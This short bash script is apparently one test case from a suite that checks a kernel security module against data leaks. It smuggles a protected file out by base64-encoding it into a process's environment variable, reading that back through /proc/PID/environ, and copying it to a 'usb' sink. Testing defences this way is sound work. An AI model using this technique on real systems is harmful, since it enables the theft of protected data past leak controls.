#!/usr/bin/env bash
# technique: the scan is a variable of a process; a clean one reads it from /proc/PID/environ
# hooks: ptrace_access_check, file_open
# sink: usb

. attack.sh
bash -c 'TEXT=$(base64 -w 0 "$SCAN" | head -c 100000) exec sleep 6' &
until_true grep -q sleep "/proc/$!/comm"
tr -d '\0' <"/proc/$!/environ" >"$ROOM/line"
[ "$(wc -c <"$ROOM/line")" -lt 10000 ] || cp "$ROOM/line" "$COPY"
